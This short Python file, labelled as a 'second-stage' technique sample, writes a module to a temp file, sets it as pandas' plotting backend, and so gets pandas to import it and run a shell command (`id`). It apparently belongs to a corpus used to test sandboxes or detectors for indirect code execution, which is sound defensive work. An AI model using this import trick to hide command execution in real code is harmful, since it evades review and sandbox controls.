# class: second-stage | technique: code written to tempfile.NamedTemporaryFile(suffix='.py', dir='.'), then named as pandas' plotting backend, which import_module()s it | effect: runs `id` when pandas imports the backend
import os
import tempfile

import pandas as pd

code = "import os\nos.system('id')\n\ndef plot(data, kind, **kwargs):\n    return None\n"
with tempfile.NamedTemporaryFile("w", suffix=".py", prefix="plotbk_", dir=".", delete=False) as fh:
    fh.write(code)
backend = os.path.splitext(os.path.basename(fh.name))[0]
pd.set_option("plotting.backend", backend)
pd.Series([1, 2, 3]).plot()
print("plotted with", backend)
